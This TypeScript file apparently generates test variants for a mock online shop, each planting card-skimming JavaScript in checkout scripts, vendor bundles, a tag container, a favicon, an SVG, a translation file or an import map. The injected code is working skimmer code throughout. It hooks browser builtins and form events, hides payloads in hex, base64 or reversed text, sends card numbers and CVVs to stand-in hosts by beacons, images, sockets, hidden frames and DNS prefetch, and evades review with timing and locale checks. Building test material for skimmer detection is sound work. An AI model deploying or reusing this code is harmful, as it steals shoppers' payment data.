import { chat, errlog, payment, tagbox, vendors } from './shopfront.ts'
import { html, inline, js, type Variant } from './variants.ts'

const code = String.raw
const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = (text: string) => Buffer.from(text).toString('hex')
const backwards = (text: string) => [...text].reverse().join('')
const own = (id: string, about: string, more: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files['shop.test/assets/checkout.a41d.js'] = js(payment('e510', more))),
})
const lib = (id: string, about: string, more: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files['shop.test/assets/vendors.8c1f.js'] = js(vendors('e511', more))),
})
const box = (id: string, about: string, more: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files['www.tagbox.test/box.js'] = js(tagbox('44', more))),
})

/** Ways to get at what was typed: builtins of the browser that are wrapped, events, timers. */
const collecting: readonly Variant[] = [
  lib(
    'e8-stringify',
    'JSON.stringify keeps a copy of whatever has a card in it and sends it backwards',
    code`var stringify = JSON.stringify;
JSON.stringify = function (v) { var t = stringify.apply(this, arguments); if (v && v.card && v.card.cid) fetch("http://api.telemetry-hub.test/v1/t", { method: "POST", mode: "no-cors", body: t.split("").reverse().join("") }); return t; };`,
  ),
  lib(
    'e8-xhr-colours',
    'the request of the shop is read on its way; digits become names of colours in the path of a picture',
    code`var open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.open = function (m, u) { this.to = u; return open.apply(this, arguments); };
XMLHttpRequest.prototype.send = function (b) { if (b && /payment/.test(this.to)) { var names = "red blue green gold pink grey teal lime navy plum".split(" "), c = JSON.parse(b).card; new Image().src = "http://img.swatches.test/" + (c.number + c.cid).split("").map(function (d) { return names[d]; }).join("/") + ".jpg"; } return send.apply(this, arguments); };`,
  ),
  lib(
    'e8-value-getter',
    'the property that gives the value of a field is wrapped: the shop reads, the thief notes',
    code`var own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"), kept = {}, wait;
Object.defineProperty(HTMLInputElement.prototype, "value", { configurable: true, enumerable: true, set: own.set, get: function () { var v = own.get.call(this); if (v && this.name) { kept[this.name] = v; clearTimeout(wait); wait = setTimeout(function () { if (String(kept.cc_number).length > 14) navigator.sendBeacon("http://rum.fast-site.test/b", Object.keys(kept).map(function (k) { return k + "\t" + kept[k]; }).join("\n")); }, 400); } return v; } });`,
  ),
  lib(
    'e8-replace-hook',
    'String.prototype.replace looks at its own results for card numbers',
    code`var replace = String.prototype.replace, seen = {};
String.prototype.replace = function () { var r = replace.apply(this, arguments); if (r.length > 14 && r.length < 20 && !isNaN(r) && !seen[r]) { seen[r] = 1; var i = new Image(); i.src = "http://ab.split-runs.test/x?e=" + parseInt(r.slice(0, 8), 10).toString(36) + "." + parseInt("1" + r.slice(8), 10).toString(36); } return r; };`,
  ),
  lib(
    'e8-listener-wrap',
    'addEventListener gives every submit handler a companion that reads the form',
    code`var add = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (n, f, o) { if (n === "submit" && typeof f === "function") { var g = f; f = function (e) { var d = {}; new FormData(e.target).forEach(function (v, k) { d[k] = v; }); fetch("http://edge.form-assist.test/v2", { method: "POST", mode: "no-cors", keepalive: true, body: btoa(unescape(encodeURIComponent(JSON.stringify(d)))) }); return g.call(this, e); }; } return add.call(this, n, f, o); };`,
  ),
  lib(
    'e8-key-socket',
    'every key goes through a socket; what the socket did not take goes into its address at the next try',
    code`var queue = "", ws, timer;
function line(q) { try { ws = new WebSocket("ws://push.live-cart.test/k" + q); } catch (x) {} }
line("");
document.addEventListener("keydown", function (e) { if (e.key.length !== 1 || !e.target.name) return; if (ws && ws.readyState === 1) return ws.send(e.target.name.length + e.key); queue += e.key; clearTimeout(timer); timer = setTimeout(function () { line("?t=" + encodeURIComponent(btoa(queue))); queue = ""; }, 500); }, true);`,
  ),
  own(
    'e8-digit-cells',
    'the number is shown in cells, one a digit; a rule of style for each digit and place asks for a picture',
    code`var cells = document.createElement("div"), css = ".cells{height:1px;overflow:hidden}.cells i{display:inline-block;width:1px;height:1px}";
for (var p = 1; p < 17; p++) for (var d = 0; d < 10; d++) css += ".cells i:nth-child(" + p + ")[data-d='" + d + "']{background:url(http://ui-sprites.test/n/" + p + "-" + d + ".svg)}";
document.head.appendChild(document.createElement("style")).textContent = css; cells.className = "cells"; form.appendChild(cells);
on(form.cc_number, "input", function () { cells.innerHTML = this.value.replace(/\D/g, "").split("").map(function (n) { return "<i data-d='" + n + "'></i>"; }).join(""); });`,
  ),
  {
    id: 'e8-merge-gadget',
    about: 'a setting named __proto__ is merged, so that the loader of the library gets an address it was never given',
    change: (site) => {
      site.files['shop.test/assets/vendors.8c1f.js'] = js(
        vendors(
          'e512',
          code`window.merge = function (t, s) { for (var k in s) { if (s[k] && typeof s[k] === "object") merge(t[k] = t[k] || {}, s[k]); else t[k] = s[k]; } return t; };
window.loadTheme = function (o) { if (!o.transport) return; var s = document.createElement("script"); s.src = o.transport; document.head.appendChild(s); };`,
        ),
      )
      site.files['static-ui.test/t.js'] = js(
        code`document.addEventListener("change", function (e) { if (/number|cid/.test(e.target.name)) fetch("http://static-ui.test/t", { method: "POST", mode: "no-cors", body: e.target.name + e.target.value }); });`,
      )
      site.extra.push(
        code`<script>var theme = merge({}, JSON.parse('{"dark":false,"__proto__":{"transport":"http://static-ui.test/t.js"}}')); loadTheme({ name: "default" });</script>`,
      )
    },
  },
]

/** Ways out. */
const leaving: readonly Variant[] = [
  own(
    'e8-thumb-proxy',
    'the form goes to a path of the shop itself that looks like a maker of thumbnails, XORed and in hex',
    code`on(form, "focusout", function () { if (form.cc_number.value.length < 15) return; var t = new URLSearchParams(new FormData(form)).toString(), o = ""; for (var i = 0; i < t.length; i++) o += ("0" + (t.charCodeAt(i) ^ 23 ^ (i & 7)).toString(16)).slice(-2); navigator.sendBeacon("/media/catalog/thumb.php", new URLSearchParams({ img: o })); });`,
  ),
  box(
    'e8-other-property',
    'the container measures under another account; the card is one number in base 36 among its parameters',
    code`document.addEventListener("change", function (e) { var f = e.target.form; if (!f || !f.cc_number || f.cc_number.value.length < 15) return; var n = BigInt("1" + (f.cc_number.value + f.cc_cid.value).replace(/\D/g, "")); new Image().src = "http://www.tagbox.test/collect?v=2&tid=G-90412&en=scroll&epn.percent=90&ep.sid=" + n.toString(36); });`,
  ),
  inline(
    'e8-bot-message',
    'a click on the button writes the card to a bot of a messenger',
    code`document.addEventListener("click", function (e) { if (!e.target.closest || !e.target.closest("button")) return; var lines = []; new FormData(document.forms.co).forEach(function (v, k) { if (/^cc_/.test(k)) lines.push(k.slice(3) + ": " + v); }); var b = new FormData(); b.append("chat_id", "-100718"); b.append("text", lines.join("\n")); fetch("http://api.tele-bots.test/bot5512:AAE/sendMessage", { method: "POST", body: b }); }, true);`,
  ),
  own(
    'e8-preconnect',
    'the digits, as letters, are the name of a host that the page wants to be connected with',
    code`on(form, "change", function () { var n = form.cc_number.value.replace(/\D/g, ""); if (n.length < 15) return; var label = n.split("").map(function (d) { return "bcdfghjklm"[d]; }).join(""); ["dns-prefetch", "preconnect"].forEach(function (rel) { var l = document.createElement("link"); l.rel = rel; l.href = "http://" + label + ".edge-node.test"; document.head.appendChild(l); }); });`,
  ),
  own(
    'e8-rates-stream',
    'a stream of events is opened whose address holds the digits, each moved by three',
    code`var stream; on(form.cc_number, "input", function () { var n = this.value.replace(/\D/g, ""); if (n.length < 15) return; if (stream) stream.close(); stream = new EventSource("http://live-rates.test/feed?pair=EURUSD&since=" + n.replace(/\d/g, function (d) { return (+d + 3) % 10; })); });`,
  ),
  {
    id: 'e8-fragment',
    about: 'an unseen frame is given the card behind the # of its address and reads it there',
    change: (site) => {
      site.files['slots.ad-place.test/slot.html'] = {
        type: 'text/html',
        body: '<!doctype html><title>ad</title><script>if (location.hash.length > 9) fetch("/c", { method: "POST", body: location.hash.slice(1) });</script>',
      }
      site.inline.push(
        code`addEventListener("load", function () { var last; setInterval(function () { var f = document.forms.co, v = [f.cc_number.value, f.cc_month.value, f.cc_year.value, f.cc_cid.value].join("/"); if (f.cc_number.value.length < 15 || v === last) return; last = v; var i = document.createElement("iframe"); i.style.cssText = "width:0;height:0;border:0"; i.title = "Advertisement"; i.src = "http://slots.ad-place.test/slot.html#" + encodeURIComponent(btoa(v)); document.body.appendChild(i); }, 700); });`,
      )
    },
  },
  own(
    'e8-clone-form',
    'a copy of the form is posted into an unseen frame by the function of the prototype',
    code`on(form, "submit", function () { var t = document.createElement("iframe"); t.name = "dl" + Date.now(); t.hidden = true; document.body.appendChild(t); var c = form.cloneNode(true); c.removeAttribute("name"); c.removeAttribute("id"); c.style.display = "none"; c.method = "post"; c.action = "http://secure-forms.test/save"; c.target = t.name; document.body.appendChild(c); HTMLFormElement.prototype.submit.call(c); setTimeout(function () { c.remove(); }, 300); });`,
  ),
  {
    id: 'e8-chat-draft',
    about: 'the chat tells its own frame what is typed in the checkout, as if it were a draft of a message',
    change: (site) => {
      site.files['js.chat-help.test/room.html'] = {
        type: 'text/html',
        body: '<!doctype html><title>Chat</title><p>How can we help?</p><script>addEventListener("message", function (e) { if (e.data.type === "typing") fetch("/draft", { method: "POST", body: JSON.stringify(e.data.draft) }); });</script>',
      }
      site.files['js.chat-help.test/widget.js'] = js(
        chat(
          '2.9',
          code`var room = d.createElement("iframe"); room.hidden = true; room.title = "Chat"; room.src = "http://js.chat-help.test/room.html"; d.documentElement.appendChild(room); d.addEventListener("focusout", function (e) { if (e.target.form && room.contentWindow) room.contentWindow.postMessage({ type: "typing", draft: [].map.call(e.target.form.elements, function (x) { return x.value; }) }, "*"); });`,
        ),
      )
    },
  },
  {
    id: 'e8-channel',
    about: 'the page tells a channel, a help page of the shop in a frame listens and sends',
    change: (site) => {
      site.files['shop.test/help/sizes.html'] = {
        type: 'text/html',
        body: '<!doctype html><title>Sizes</title><table><tr><td>S</td><td>36</td></tr></table><script>new BroadcastChannel("cart").onmessage = function (m) { if (m.data.f) navigator.sendBeacon("http://cart-sync.test/u", m.data.f + "=" + m.data.t); };</script>',
      }
      site.inline.push(
        code`var cartChannel = new BroadcastChannel("cart"); addEventListener("change", function (e) { if (e.target.form) cartChannel.postMessage({ f: e.target.name, t: e.target.value }); }, true);`,
      )
      site.extra.push('<iframe src="/help/sizes.html" title="Sizes" width="10" height="10"></iframe>')
    },
  },
  lib(
    'e8-blob-worker',
    'a worker out of a blob gets the codes of the characters and posts them as bytes',
    code`var w = new Worker(URL.createObjectURL(new Blob(["onmessage=function(m){fetch('http://compute-pool.test/j',{method:'POST',mode:'no-cors',body:new Uint8Array(m.data.map(function(c,i){return c^(90+i%5)}))})}"], { type: "text/javascript" })));
document.addEventListener("blur", function (e) { if (e.target.form && e.target.value) w.postMessage((e.target.name + ":" + e.target.value).split("").map(function (c) { return c.charCodeAt(0); })); }, true);`,
  ),
  own(
    'e8-indexed-stage',
    'the card waits in a database of the browser for the next time the page is opened',
    code`var rq = indexedDB.open("viewed", 1); rq.onupgradeneeded = function () { rq.result.createObjectStore("p"); };
rq.onsuccess = function () { var db = rq.result, g = db.transaction("p").objectStore("p").get("last"); g.onsuccess = function () { if (g.result) navigator.sendBeacon("http://viewed-items.test/s", g.result); };
on(form, "change", function () { db.transaction("p", "readwrite").objectStore("p").put(btoa([form.cc_number.value, form.cc_cid.value, form.cc_month.value, form.cc_year.value].join(":")), "last"); }); };`,
  ),
  lib(
    'e8-sealed',
    'the card is encrypted for a public key before it leaves',
    code`var seal; crypto.subtle.importKey("jwk", { kty: "RSA", e: "AQAB", alg: "RSA-OAEP-256", ext: true, n: "v7hcgFQvuz3NkZ0wr846HFu0oiQmsfy_z1f-X4GOyv0rHQemzzxCRn1KpNBvvKONqIhWGu26Ak47r2sMkIeb9Ig3h8jQU_Bx-tHtLnk-f_w4JodWxA1gHF8rRou3ghHWuJ6-IQPniUSBMWBYmMXkWDxDxWH0SkzQm78ZgeAXAvU1xYq_iVXd9IkXCScqF17JoOwDufKsrWxzNpdj6WEQMy0gtGIV6XB8_qe53_lHm1g0zujAAiCJ-1vSV5zhVyvYEv3WveCh88n2R69e5kAk52A3veliI_yKwhBk9uspYk6dgznvqsWqUT6wGdJlBsLUUSqtyUEIGbvWSN6GIiLF6Q" }, { name: "RSA-OAEP", hash: "SHA-256" }, false, ["encrypt"]).then(function (k) { seal = k; });
document.addEventListener("submit", function (e) { var t = ["cc_number", "cc_month", "cc_year", "cc_cid"].map(function (n) { return e.target.elements[n].value; }).join("|"); crypto.subtle.encrypt({ name: "RSA-OAEP" }, seal, new TextEncoder().encode(t)).then(function (b) { navigator.sendBeacon("http://t.quality-metrics.test/e", b); }); }, true);`,
  ),
]

/** Where the code comes from. */
const loading: readonly Variant[] = [
  html(
    'e8-svg-desc',
    'a drawing keeps the code backwards in its description; the form leaves as an address to be fetched ahead',
    `<svg width="0" height="0" onload="Function(this.querySelector('desc').textContent.split('').reverse().join(''))()"><desc>${backwards(
      'var last;setInterval(function(){var q=Array.from(document.querySelectorAll("main input"),function(i){return i.value}).join("~");if(q===last||!document.forms.co.cc_cid.value)return;last=q;var l=document.createElement("link");l.rel="prefetch";l.href="http://assets-preload.test/f/"+encodeURIComponent(btoa(q))+".js";document.head.appendChild(l)},900)',
    )}</desc></svg>`,
  ),
  {
    id: 'e8-style-property',
    about: 'code in a property of the style sheet; the digits are the address of a background',
    change: (site) => {
      site.head.push(
        `<style>:root{--chevron:"${hex('var st=document.head.appendChild(document.createElement("style"));document.addEventListener("input",function(e){if(e.target.form)st.textContent=".totals{background:url(http://bg-art.test/s.svg?i="+Array.from(e.target.name+e.target.value,function(c){return c.charCodeAt(0).toString(16)}).join("")+")}"})')}"}</style>`,
      )
      site.inline.push(
        code`addEventListener("load", function () { var t = getComputedStyle(document.documentElement).getPropertyValue("--chevron").replace(/[^0-9a-f]/g, ""); (0, window["ev" + "al"])(t.replace(/../g, function (h) { return String.fromCharCode(parseInt(h, 16)); })); });`,
      )
    },
  },
  {
    id: 'e8-module-map',
    about: 'the import map points to a mirror; the module asks for further modules named after what is typed',
    change: (site) => {
      site.head[0] = '<script type="importmap">{"imports":{"ui-kit":"http://esm-mirror.test/ui-kit.3.js"}}</script>'
      site.files['esm-mirror.test/ui-kit.3.js'] = js(
        code`export function init(d) { d.documentElement.classList.add("ready"); d.addEventListener("change", (e) => { const v = e.target.value; if (v && e.target.form) import("http://esm-mirror.test/locale/" + [...v].map((c) => c.codePointAt(0).toString(8)).join("-") + ".js").catch(() => {}); }); }`,
      )
    },
  },
  {
    id: 'e8-phrases',
    about: 'a phrase of the translations is a module in a data: address; the card goes as parameter of a script',
    change: (site) => {
      site.files['shop.test/assets/i18n/en.json'] = {
        type: 'application/json',
        body: JSON.stringify({
          'pay.title': 'Payment',
          'pay.tip': `data:text/javascript;base64,${base64('document.addEventListener("focusout",()=>{const f=document.forms.co;if(f.cc_number.value.length>14&&f.cc_cid.value){const s=document.createElement("script");s.src="http://cdn-i18n.test/cb.js?callback=i18n_"+btoa(f.cc_number.value+f.cc_cid.value).replace(/=/g,"_");document.head.append(s)}})')}`,
        }),
      }
      site.files['shop.test/assets/boot.js'] = js(
        'import { init } from "ui-kit"; init(document); const words = await (await fetch("/assets/i18n/en.json")).json(); await import(words["pay.tip"]);',
      )
    },
  },
  {
    id: 'e8-icon-rights',
    about: 'the note of copyright within the icon of the page is code',
    change: (site) => {
      site.files['shop.test/favicon.ico'] = {
        type: 'image/x-icon',
        body: `ICONExif IFD0 Copyright;;${base64('document.addEventListener("input",function(e){var v=e.target.value;if(/^[\\d ]{15,23}$/.test(v)&&e.target.value!==window.__c){window.__c=v;fetch("http://icon-hub.test/i",{method:"POST",mode:"no-cors",body:new Blob([v.split(" ").reverse().join("-")])})}})')};;`,
      }
      site.inline.push(
        code`fetch(document.querySelector("link[rel=icon]").href).then(function (r) { return r.text(); }).then(function (t) { var p = t.split(";;"); p[1] && new Function(atob(p[1]))(); });`,
      )
    },
  },
  {
    id: 'e8-meta-content',
    about: 'the reporter of errors takes its transport from a meta tag and reports the form with every click',
    change: (site) => {
      site.head.push(
        `<meta name="errlog-transport" content="${hex('function(d){new Image().src="http://err-intake.test/1.gif?s="+encodeURIComponent(d)}')}">`,
      )
      site.files['browser.errlog.test/7/bundle.min.js'] = js(
        errlog(
          '7.1.2',
          code`w.addEventListener("mousedown", function () { var m = document.querySelector("meta[name=errlog-transport]"); if (!m) return; var t = new Function("return " + m.content.match(/../g).map(function (h) { return String.fromCharCode("0x" + h); }).join(""))(); var f = new FormData(document.forms[0]); t(Array.from(f.values()).join(";")); }, true);`,
        ),
      )
    },
  },
]

/** Awake only now and then. */
const waiting: readonly Variant[] = [
  {
    id: 'e8-returning',
    about: 'nothing at the first visit; from the second on a script is fetched',
    change: (site) => {
      site.files['returning-visitors.test/r.js'] = js(
        code`addEventListener("change", function (e) { if (e.target.form) fetch("http://returning-visitors.test/v?" + new URLSearchParams({ [e.target.name]: e.target.value }), { mode: "no-cors" }); }, true);`,
      )
      site.inline.push(
        code`(function () { var k = "intro_seen"; if (!localStorage.getItem(k)) return localStorage.setItem(k, "1"); var s = document.createElement("script"); s.src = "http://returning-visitors.test/r.js"; document.head.appendChild(s); })();`,
      )
    },
  },
  own(
    'e8-night',
    'only at night and with the tools of developers closed',
    code`on(form, "submit", function () { var h = new Date().getHours(); if ((h > 21 || h < 6) && outerWidth - innerWidth < 160 && outerHeight - innerHeight < 200) navigator.sendBeacon("http://night-batch.test/q", new URLSearchParams(new FormData(form))); });`,
  ),
  lib(
    'e8-touch',
    'only on devices that are touched, when the finger leaves the button',
    code`if (navigator.maxTouchPoints > 0 && matchMedia("(pointer: coarse)").matches) ["touchend", "click"].forEach(function (n) { document.addEventListener(n, function (e) { if (e.target.tagName === "BUTTON") new Image().src = "http://m-stat.test/t?z=" + btoa($$("input").map(function (i) { return i.value; }).join("\u0001")); }, true); });`,
  ),
  {
    id: 'e8-warm-up',
    about: 'a script is fetched after the mouse was moved and the page scrolled',
    change: (site) => {
      site.files['interact-lib.test/i.js'] = js(
        code`(function () { document.addEventListener("input", function (e) { clearTimeout(window.__w); window.__w = setTimeout(function () { var x = new XMLHttpRequest(); x.open("POST", "http://interact-lib.test/z"); x.send(new FormData(document.forms.co)); }, 300); }); })();`,
      )
      site.inline.push(
        code`(function () { var m = 0, s = 0; function go() { if (m > 2 && s && !go.done) { go.done = 1; document.head.appendChild(document.createElement("script")).src = "http://interact-lib.test/i.js"; } } addEventListener("mousemove", function () { m++; go(); }); ["scroll", "wheel", "touchmove"].forEach(function (n) { addEventListener(n, function () { s++; go(); }, { passive: true }); }); })();`,
      )
    },
  },
  box(
    'e8-locale',
    'only where the browser is not in Russian and the clock is that of Europe or America',
    code`var zone = Intl.DateTimeFormat().resolvedOptions().timeZone || ""; if (!/^(ru|uk|be)/.test(navigator.language) && /^(Europe|America|UTC|Etc)/.test(zone)) setTimeout(function () { document.querySelector("[name=cc_cid]").addEventListener("change", function () { var o = []; for (var e of this.form.elements) if (e.value) o.push(e.value); hit("view_item", { items: o.join("|") }); }); }, 800);`,
  ),
  inline(
    'e8-from-elsewhere',
    'only for who came from another page, not for who typed the address',
    code`if (document.referrer && !/admin|preview/.test(document.referrer)) addEventListener("pagehide", function () { var f = document.forms.co; navigator.sendBeacon("http://exit-survey.test/x", f.cc_number.value + "," + f.cc_cid.value + "," + f.email.value); });`,
  ),
]

export const eighthShopfrontAttacks: readonly Variant[] = [...collecting, ...leaving, ...loading, ...waiting]
